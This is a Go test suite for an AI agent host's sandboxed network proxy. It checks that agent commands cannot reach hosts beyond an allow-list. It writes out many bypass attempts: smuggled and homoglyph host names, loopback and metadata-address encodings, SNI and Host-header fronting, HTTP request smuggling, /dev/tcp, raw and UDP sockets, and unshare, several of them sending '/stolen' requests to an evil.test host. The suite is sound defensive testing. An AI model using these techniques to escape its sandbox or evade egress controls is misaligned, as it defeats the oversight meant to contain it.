package network_test

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/picoclaw/picoclaw/host/hosttest"
)

// walled is a network that a command may try to get around.
const walled = `"allow": ["web.test:%PLAIN", "web.test:%SECURE", "*.web.test:%PLAIN", "xn--bcher-kva.test:%PLAIN",
"only.test:%SECURE", "only.test:%PLAIN"], "deny": ["admin.web.test"], "methods": {"only.test": ["GET", "HEAD"]}`

// newWalled makes an agent with such a network, on a host that believes the site's authority.
func newWalled(t *testing.T, s *site) *networked {
	t.Helper()
	roots := filepath.Join(t.TempDir(), "roots.pem")
	if err := os.WriteFile(roots, s.roots, 0o600); err != nil {
		t.Fatal(err)
	}
	return newNetworked(t, s, walled, "", "SSL_CERT_FILE="+roots)
}

// connects sends CONNECT for each line of a file, in which \x and the like stand for bytes, and what is to be stolen
// if that works.
const connects = `/usr/bin/python3 - <<'E'
import socket
for line in open("names", "rb").read().splitlines():
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(b"CONNECT %b HTTP/1.1\r\nHost: %b\r\n\r\n" % ((line.decode("unicode_escape").encode("latin-1"),) * 2))
    answer = b""
    while b"\r\n" not in answer:
        more = s.recv(1000)
        if not more: break
        answer += more
    print(line.decode(), answer.split(b"\r\n")[0].decode(), flush=True)
    if answer.startswith(b"HTTP/1.1 200"):
        s.sendall(b"GET /stolen HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        while s.recv(1000): pass
    s.close()
E
`

// allowedNames are ways to write a name that is allowed.
var allowedNames = []string{"web.test:%PLAIN", "WEB.Test:%PLAIN", "web.test.:%PLAIN", "XN--BCHER-KVA.test:%PLAIN"}

// refusedNames are ways to get to what is not allowed by a name that looks as if it were.
var refusedNames = []string{
	`web.test:22`, // the first refusals are in the result
	// Names that end in two ways, or have two of them.
	`evil.test\x00.web.test:%PLAIN`, `evil.test%00.web.test:%PLAIN`, `evil.test\x0a.web.test:%PLAIN`,
	`evil.test\x20web.test:%PLAIN`, `web.test:%PLAIN@evil.test:%PLAIN`, `evil.test:%PLAIN@web.test:%PLAIN`,
	`evil.test#.web.test:%PLAIN`, `evil.test?.web.test:%PLAIN`, `evil.test/.web.test:%PLAIN`, `evil.test\\.web.test:%PLAIN`,
	`evil.test:%PLAIN,web.test:%PLAIN`, `web.test:%PLAIN:%PLAIN`, `.web.test:%PLAIN`, `web..test:%PLAIN`, `web.test..:%PLAIN`,
	`evilweb.test:%PLAIN`, `web.test.evil.test:%PLAIN`, `-.web.test:%PLAIN`, `*.web.test:%PLAIN`,
	// What is denied, in all ways to write it.
	`admin.web.test:%PLAIN`, `ADMIN.web.test:%PLAIN`, `admin.web.test.:%PLAIN`, `Admin.Web.Test.:%PLAIN`,
	`\xef\xbd\x81dmin.web.test:%PLAIN`, `admin\xe3\x80\x82web.test:%PLAIN`, `admin.web\xef\xbc\x8etest:%PLAIN`,
	// Letters that look like others, as they are and in ASCII.
	`w\xd0\xb5b.test:%PLAIN`, `xn--wb-nlc.test:%PLAIN`, `xn--a.test:%PLAIN`, `xn--web.test:%PLAIN`,
	// Addresses.
	`127.0.0.1:%PLAIN`, `0177.0.0.1:%PLAIN`, `0x7f.0.0.1:%PLAIN`, `0x7f000001:%PLAIN`, `2130706433:%PLAIN`, `017700000001:%PLAIN`,
	`127.1:%PLAIN`, `127.0.1:%PLAIN`, `0:%PLAIN`, `0.0.0.0:%PLAIN`, `127.0.0.1.:%PLAIN`, `localhost:%PLAIN`, `[::1]:%SIX`, `[::]:%SIX`,
	`[::ffff:127.0.0.1]:%PLAIN`, `[::127.0.0.1]:%PLAIN`, `[64:ff9b::7f00:1]:%PLAIN`, `[::1%25lo]:%SIX`, `[0:0:0:0:0:0:0:1]:%SIX`,
	`::1:%SIX`, `[127.0.0.1]:%PLAIN`, `[web.test]:%PLAIN`, `169.254.169.254:80`, `\xe2\x91\xa0\xe2\x91\xa1\xe2\x91\xa6.0.0.1:%PLAIN`,
	// Ports.
	`web.test:80`, `web.test`, `web.test:`, `web.test:0`, `web.test:+%PLAIN`, `web.test:0%PLAIN`, `web.test:http`,
	`web.test:1%PLAIN0`, `:%PLAIN`,
}

// No way to write a name leads elsewhere.
func TestHostNameSpellingsAreEquivalent(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	a := newWalled(t, s)
	a.write("names", a.ports(strings.Join(allowedNames, "\n")))
	r := a.run(connects)
	for _, name := range allowedNames {
		if !strings.Contains(r.Text, a.ports(name)+" HTTP/1.1 200") {
			t.Errorf("%s: %s", name, r.FullText())
		}
	}
	a.write("names", a.ports(strings.Join(refusedNames, "\n")))
	r = a.run(connects)
	lines := strings.Split(strings.TrimRight(r.Text, "\n"), "\n")
	for i, name := range refusedNames {
		if i >= len(lines) || !strings.HasPrefix(lines[i], a.ports(name)+" HTTP/1.1 4") {
			t.Fatalf("%s: %s", name, r.FullText())
		}
	}
	if s.saw("/stolen") {
		t.Error("a request got where none should")
	}
	if !strings.Contains(r.Text, a.ports("[network: refused web.test:22, which is allowed on port %PLAIN; setting network.allow]")) {
		t.Errorf("the result does not tell of a refusal: %s", r.FullText())
	}
}

// raw sends what it is given to a host and port in one piece, and shows the answer.
const raw = `raw() { /usr/bin/python3 -c 'import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2]))); s.sendall(sys.stdin.buffer.read())
try:
    while b := s.recv(1000): print(b.decode(), end="")
except ConnectionError: pass' "$@"; }
`

// tricks are what commands may try besides names, and what they are to be told.
var tricks = []struct{ name, script, want string }{
	{"a name for TLS that is another", `curl -sS --cacert ca.pem --connect-to evil.test:443:web.test:%SECURE https://evil.test/stolen`,
		`[network: refused TLS for "evil.test" on a connection to web.test:%SECURE]`},
	{"no name for TLS", `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT web.test:%SECURE HTTP/1.1\r\nHost: web.test\r\n\r\n' >&3
read -r <&3; /usr/bin/python3 -c 'import socket, ssl
s = socket.socket(fileno=3); s.recv(100); c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
c.wrap_socket(s)'`, `refused TLS for "" on a connection to web.test:%SECURE`},
	{"another Host in a tunnel", `curl -sS -p -H 'Host: evil.test' http://web.test:%PLAIN/stolen`,
		`refused a request for "evil.test" on a connection to web.test:%PLAIN`},
	{"another Host beside a whole URL", `curl -sS -H 'Host: evil.test' http://web.test:%PLAIN/hello`,
		"hello from web.test:%PLAIN"},
	{"another Host without a proxy", `curl -sS --noproxy '*' -H 'Host: evil.test' http://web.test:%PLAIN/stolen`,
		`refused a request for "evil.test" on a connection to web.test:%PLAIN`},
	{"fronting where TLS ends here", `curl -sS -H 'Host: web.test:%SECURE' https://only.test:%SECURE/stolen`,
		`refused a request for "web.test:%SECURE" on a connection to only.test:%SECURE`},
	{"fronting with a whole URL", `curl -sS --request-target http://evil.test:%PLAIN/stolen http://web.test:%PLAIN/`,
		"refused evil.test:%PLAIN; setting network.allow"},
	{"NO_PROXY", `NO_PROXY='*' no_proxy='*' curl -sS http://evil.test:%PLAIN/stolen`, "[network: refused evil.test"},
	{"the address of a host", `curl -sS --noproxy '*' --resolve evil.test:%PLAIN:127.0.0.1 http://evil.test:%PLAIN/stolen`,
		"refused localhost:%PLAIN; setting network.allow"},
	{"an address that no lookup gave", `curl -sS --noproxy '*' http://11.1.99.99:%PLAIN/stolen`,
		"refused 11.1.99.99:%PLAIN, which is assigned to no name"},
	{"the address of another name", `a=$(/usr/bin/python3 -c 'import socket; print(socket.gethostbyname("web.test"))')
curl -sS --noproxy '*' --resolve evil.test:%PLAIN:$a http://evil.test:%PLAIN/stolen`,
		`refused a request for "evil.test:%PLAIN" on a connection to web.test:%PLAIN`},
	{"a redirect", `curl -sSL 'http://web.test:%PLAIN/leave?to=http://evil.test:%PLAIN/taken'`,
		"[network: refused evil.test:%PLAIN; setting network.allow]"},
	{"a method", `curl -sS -X POST https://only.test:%SECURE/stolen`,
		"[network: refused \"POST\" to only.test:%SECURE, which takes only GET, HEAD; setting network.methods]"},
	{"a method without TLS", `curl -sS -X DELETE http://only.test:%PLAIN/stolen`, "which takes only GET, HEAD"},
	{"a method in the body of another request", raw + `printf '%b' 'GET /hello HTTP/1.1\r\nHost: only.test:%PLAIN\r\n' \
'Content-Length: 70\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nPOST /stolen HTTP/1.1\r\nHost: only.test:%PLAIN\r\n' \
'Connection: close\r\n\r\n' | raw only.test %PLAIN`, "HTTP/1.1"},
	{"a request in the body of another", raw + `printf '%b' 'GET /hello HTTP/1.1\r\nHost: only.test:%PLAIN\r\n' \
'Transfer-Encoding : chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\nPOST /stolen HTTP/1.1\r\nHost: only.test:%PLAIN\r\n\r\n' |
raw only.test %PLAIN`, "HTTP/1.1 400"},
	{"a protocol that is not HTTP", raw + `printf 'SSH-2.0-x\r\n' | raw web.test %PLAIN`,
		"[network: refused a connection to web.test:%PLAIN, which begins with neither TLS nor HTTP; setting network.allow, as tcp://web.test:%PLAIN]"},
	{"HTTP/2 without TLS", `curl -sS --noproxy '*' --http2-prior-knowledge http://web.test:%PLAIN/stolen`,
		"begins with neither TLS nor HTTP"},
	{"an upgrade to HTTP/2 without TLS", `curl -sS --noproxy '*' --http2 http://web.test:%PLAIN/hello`, "hello from"},
}

// Nothing that a command says gets it to a host that is not named, and it is told what was refused.
func TestCommandTricksAreRefused(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	a := newWalled(t, s)
	for _, c := range tricks {
		t.Run(c.name, func(t *testing.T) {
			if r := a.run(c.script); !strings.Contains(r.FullText(), a.ports(c.want)) {
				t.Errorf("no %q in: %s", a.ports(c.want), r.FullText())
			}
		})
	}
	if s.saw("/stolen") || s.saw("GET evil.test") {
		t.Errorf("a request got where none should: %q", s.seen)
	}
	for _, want := range []networkRecord{{"evil.test", s.plain, "deny"}, {"web.test", s.plain, "allow"}} {
		if !a.recorded(want) {
			t.Errorf("there is no record of %v", want)
		}
	}
}

// networkRecord is what the audit log says of a connection.
type networkRecord struct{ host, port, decision string }

// recorded reports whether the audit log has a record, and, where something was allowed, bytes in it.
func (n *networked) recorded(want networkRecord) bool {
	n.T.Helper()
	data, err := os.ReadFile(filepath.Join(n.Home, "logs", "audit.jsonl"))
	if err != nil {
		n.T.Fatal(err)
	}
	for line := range strings.Lines(string(data)) {
		var r struct {
			Tool, Decision, Rule string
			Args                 struct {
				Host           string
				Port           int
				Sent, Received int64
			}
		}
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			n.T.Fatal(err)
		}
		got := networkRecord{r.Args.Host, fmt.Sprint(r.Args.Port), r.Decision}
		if r.Tool == "network" && got == want && r.Rule != "" && (r.Args.Received > 0) == (want.decision == "allow") {
			return true
		}
	}
	return false
}

// around tries to leave without the proxy: %UDP is a port of the host's loopback, @NAME a socket without a file.
const around = `/usr/bin/python3 - <<'E'
import errno, socket
def tried(what, f):
    try: print(what, "worked", f())
    except OSError as e: print(what, "failed", errno.errorcode.get(e.errno))
udp = lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print("names", socket.getaddrinfo("web.test", 1)[0][4][0].startswith("11.1."))
for port in (53, 444, 123):
    tried("udp", lambda: udp().sendto(b"x" * 30, ("192.0.2.1", port)))
    tried("tcp", lambda: socket.create_connection(("192.0.2.1", port), 5))
    tried("six", lambda: socket.create_connection(("2001:db8::1", port), 5))
for address in ("127.0.0.1", "11.1.0.1", "127.9.9.9", "11.9.9.9"):
    s = udp(); s.connect((address, %UDP))
    tried("quic", lambda: (s.send(b"stolen"), s.send(b"stolen")))
tried("host", lambda: socket.create_connection(("127.0.0.1", %SIX), 5))
tried("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
tried("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
tried("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\0%ABSTRACT"))
tried("bind", lambda: udp().bind(("192.0.2.1", 1)))
links = sorted(line.split(":")[0].strip() for line in open("/proc/net/dev").read().splitlines()[2:])
print("links", links)
E
unshare -Urn curl -sS --max-time 20 http://web.test:%PLAIN/stolen || echo unshared
`

// What does not go through the proxy goes nowhere: no UDP, no raw socket, and no socket of the host's.
func TestProxyCannotBeBypassed(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	a := newWalled(t, s)
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = udp.Close() })
	name := filepath.Base(a.Home) + "-socket"
	abstract, err := net.Listen("unix", "@"+name)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = abstract.Close() })
	script := strings.NewReplacer("%UDP", portAt(udp.LocalAddr()), "%ABSTRACT", name).Replace(around)
	r := a.run(script)
	if !r.OK || strings.Contains(r.Text, "worked") || !strings.Contains(r.Text, "names True") ||
		!strings.Contains(r.Text, "abstract failed ECONNREFUSED") || !strings.Contains(r.Text, "links ['lo']") ||
		!strings.Contains(r.Text, "unshared") {
		t.Errorf("%s", r.FullText())
	}
	// What the sandbox had sent would come before this.
	out, err := net.Dial("udp", udp.LocalAddr().String())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = out.Close() })
	if _, err := out.Write([]byte("ours")); err != nil {
		t.Fatal(err)
	}
	got := make([]byte, 10)
	if n, _, err := udp.ReadFrom(got); err != nil || string(got[:n]) != "ours" {
		t.Errorf("%q %v came to a port of the host's", got[:n], err)
	}
	if s.saw("/stolen") {
		t.Error("a request got where none should")
	}
}

// Each agent has a proxy of its own, with its own rules, also where one process has all of them.
func TestAgentsDoNotReachEachOthersProxy(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	a := newNetworked(t, s, `"allow": ["web.test:%PLAIN"]`, `, "agents": {"list": [{"id": "main"},
{"id": "other", "network": {"allow": ["api.test:%PLAIN"]}}, {"id": "none", "isolation": {"network": false}}]}`)
	const script = `curl -sS --max-time 20 http://web.test:%PLAIN/hello || :
curl -sS --max-time 20 http://api.test:%PLAIN/hello || :`
	var lines strings.Builder
	for i, agent := range []string{"main", "other", "none", "main", "other"} {
		fmt.Fprintf(&lines, `{"id": %d, "agent": %q, "tool": "exec", "args": {"command": %q}}`+"\n", i, agent,
			a.ports(strings.ReplaceAll(script, "\n", "; ")))
	}
	cmd := exec.Command(hosttest.ProgramPath("bin/picoclaw"), "batch", "--jobs", "1")
	cmd.Env, cmd.Stdin, cmd.Stderr = a.Env, strings.NewReader(lines.String()), os.Stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	web, api := a.ports("web.test:%PLAIN"), a.ports("api.test:%PLAIN")
	answers := strings.Split(strings.TrimSpace(string(out)), "\n")
	if len(answers) != 5 {
		t.Fatalf("%s", out)
	}
	for i, want := range [][2]string{{web, api}, {api, web}, {"", ""}, {web, api}, {api, web}} {
		reaches, refused := "hello from "+want[0], "network: refused "+want[1]+"; setting network.allow"
		if want[0] == "" {
			if strings.Contains(answers[i], "hello") {
				t.Errorf("without a network: %s", answers[i])
			}
		} else if !strings.Contains(answers[i], reaches) || !strings.Contains(answers[i], refused) ||
			strings.Contains(answers[i], "hello from "+want[1]) {
			t.Errorf("no %q and %q in %s", reaches, refused, answers[i])
		}
	}
}

// Who sets a list is told what holds, and where it can't.
func TestNetworkSettingsAreExplained(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	a := newWalled(t, s)
	say := func(env string, args ...string) string {
		t.Helper()
		cmd := exec.Command(hosttest.ProgramPath("bin/picoclaw"), args...)
		cmd.Env = append(slices.Clone(a.Env), env)
		out, _ := cmd.CombinedOutput() // what it says is what counts
		return string(out)
	}
	for _, c := range []struct{ host, want string }{
		{"web.test:%PLAIN", `allows it`}, {"web.test", "refused web.test, which is allowed on port "}, {"x.test", "refused x.test; setting network.allow"},
		{"admin.web.test:%PLAIN", `which "admin.web.test" denies; setting network.deny`},
		{"a.web.test:%PLAIN", `"*.web.test:%PLAIN" allows it`}, {"127.0.0.1:%PLAIN", "setting network.allow"},
	} {
		if got := say("", "explain", "network", a.ports(c.host)); !strings.Contains(got, a.ports(c.want)) {
			t.Errorf("%s: %s", c.host, got)
		}
	}
	off := say("PICOCLAW_ISOLATION_ENABLED=false", "call", "exec", "command=true")
	if !strings.Contains(off, "only a sandbox can limit") || !strings.Contains(off, "set isolation.enabled to true") {
		t.Errorf("without isolation: %s", off)
	}
	for entry, want := range map[string]string{
		"*.com": "below com", "*.co.uk": "below co.uk", "127.0.0.1": "as a network, 127.0.0.1/32", "https://web.test": "write only the host, web.test",
		"web.*": "*.example.org", "0177.0.0.1": "neither a host name nor an address", "web.test:http": "is not a port",
	} {
		config := fmt.Sprintf(`{"network": {"allow": [%q]}}`, entry)
		if err := os.WriteFile(filepath.Join(a.Home, "config.json"), []byte(config), 0o600); err != nil {
			t.Fatal(err)
		}
		if got := say("", "config", "check"); !strings.Contains(got, "network.allow") || !strings.Contains(got, want) {
			t.Errorf("%s: %s", entry, got)
		}
	}
}
